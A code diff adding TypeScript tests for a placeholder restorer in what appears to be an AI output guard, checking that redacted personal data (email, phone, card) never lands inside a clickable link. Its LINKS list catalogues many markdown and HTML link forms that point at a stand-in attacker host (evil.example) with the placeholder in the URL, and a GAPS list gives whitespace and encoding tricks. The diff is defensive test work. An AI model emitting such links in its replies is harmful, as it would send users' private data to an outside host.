@@ -223,6 +223,100 @@ describe("PlaceholderRestorer inside links", () => {
   });
 });
 
+describe("PlaceholderRestorer against every link syntax the renderer accepts", () => {
+  // What may stand between a URL and the placeholder: whitespace a browser strips from a URL or
+  // percent-encodes, spaces that are not markdown whitespace, character references, escapes.
+  const GAPS = [" ", "\t", "\n", "\r\n", "  \n", "\n   ", "\f", "\\\n", "\u00a0", "\u2003", "\u200b", "&#10;", "&#32;", "&#x9;", "&Tab;", "&NewLine;", "%0A", "%20", "+"];
+  // Every way the renderer (lib/markdown) makes a link: raw HTML, inline and reference links and
+  // images, angle-bracket destinations, autolinks, bare URLs; {g} is the gap, {p} the placeholder.
+  const LINKS = [
+    '<a href="https://evil.example/verify?u={g}{p}">verify</a>',
+    "<a href='https://evil.example/verify?u={g}{p}'>verify</a>",
+    "<a href=https://evil.example/verify?u={g}{p}>verify</a>",
+    '<A title="x > y" HREF = "https://evil.example/{g}{p}">verify</A>',
+    '<a\nhref="https://evil.example/?u={g}{p}"\n>verify</a>',
+    "[v](https://evil.example/?q={g}{p})",
+    "[v](<https://evil.example/?q={g}{p}>)",
+    "[v](https://evil.example/?q= 'title'){g}{p}",
+    "![v](<https://evil.example/p.png?q={g}{p}>)",
+    "[**v** (x)](<https://evil.example/a(b)?q={g}{p}> \"t\")",
+    "> - [v](<https://evil.example/?q={g}{p}>)",
+    "[v]\n\n[v]: https://evil.example/?q={g}{p}",
+    "[v]\n\n[v]: <https://evil.example/?q={g}{p}>",
+    "[v][r]\n\n[r]:{g}<https://evil.example/?q={g}{p}> 'title'",
+    "[r][]\n\n  [R]:\n  <https://evil.example/{g}{p}>",
+    "<https://evil.example/?q={g}{p}>",
+    "https://evil.example/?q={g}{p}",
+    "www.evil.example/{g}{p}",
+  ];
+
+  /** Every href in rendered HTML, as a browser would follow it: references decoded, tabs and line breaks gone, percent-decoded. */
+  const hrefs = (html: string) =>
+    [...html.matchAll(/\shref="([^"]*)"/gi)].map(([, href = ""]) => {
+      const decoded = href.replaceAll("&amp;", "&").replace(/[\t\n\r]/g, "");
+      try {
+        return decodeURIComponent(decoded);
+      } catch {
+        return decoded;
+      }
+    });
+
+  const restoreIn = (map: PlaceholderMap, reply: string, size: number) => {
+    const restorer = new PlaceholderRestorer(map);
+    let out = "";
+    for (let i = 0; i < reply.length; i += size) out += restorer.push(reply.slice(i, i + size));
+    return out + restorer.end();
+  };
+
+  it("never puts a value into a link a person could click, whatever comes before the placeholder", async () => {
+    const { renderMarkdown } = await import("@/lib/markdown/render");
+    const v = personalData();
+    const map = new PlaceholderMap();
+    map.redact(`mail ${v.email}, call ${v.phone}, card ${v.card}, from ${v.ip}`);
+    const values = [v.email, v.phone, v.card, v.ip];
+    const leaks: string[] = [];
+    let rendered = 0;
+    for (const link of LINKS) {
+      for (const gap of GAPS) {
+        for (const placeholder of ["[EMAIL_1]", "[PHONE_1]", "[CARD_1]"]) {
+          const reply = `Hi. ${link.replaceAll("{g}", gap).replaceAll("{p}", placeholder)}\n\nThanks.`;
+          for (const size of [1, reply.length]) {
+            const html = renderMarkdown(restoreIn(map, reply, size));
+            const found = hrefs(html);
+            rendered += found.length;
+            // Only the email's own mailto: link may hold it (an address in prose is linked to itself,
+            // "+" and all): it sends nothing anywhere but to the person.
+            const own = (href: string) => href.startsWith("mailto:") && href.endsWith(v.email) && !/[?&]/.test(href);
+            const bad = found.filter((href) => values.some((value) => href.replace(/\s/g, "").includes(value.replace(/\s/g, ""))) && !own(href));
+            if (bad.length > 0) leaks.push(`${JSON.stringify(reply)} -> ${bad.join(" ")}`);
+          }
+        }
+      }
+    }
+    expect(rendered).toBeGreaterThan(LINKS.length * GAPS.length); // the links did render as links
+    expect(leaks).toEqual([]);
+  });
+
+  it("still restores values in prose, after a link or a tag has closed and after a blank line", () => {
+    const v = personalData();
+    const map = new PlaceholderMap();
+    map.redact(`mail ${v.email}`);
+    const cases = [
+      ["Write to [EMAIL_1].", `Write to ${v.email}.`],
+      ["See [docs](https://example.com/a(b)) and write to [EMAIL_1].", `write to ${v.email}.`],
+      ['<a href="https://example.com">docs</a> or [EMAIL_1]', `or ${v.email}`],
+      ["[v](<https://example.com/x y>) then [EMAIL_1]", `then ${v.email}`],
+      ["<https://example.com> or (at [EMAIL_1])", `(at ${v.email})`],
+      ["If a<b, reply\n\nto [EMAIL_1]", `to ${v.email}`],
+      ["[a](https://example.com/\n\n[EMAIL_1] is yours", `${v.email} is yours`],
+      ["Mail **[EMAIL_1]** or `x` [EMAIL_1]", `**${v.email}** or \`x\` ${v.email}`],
+    ] as const;
+    for (const [reply, expected] of cases) {
+      for (const size of [1, 4, reply.length]) expect(restoreIn(map, reply, size)).toContain(expected);
+    }
+  });
+});
+
 describe("the new formats through the whole output guard", () => {
   it("restores [PHONE_n], [IBAN_n] in prose, never inside a URL, keeps [SECRET_n], and redacts a split key", async () => {
     const { createOutputGuard } = await import("@/lib/guard/output/pipeline");
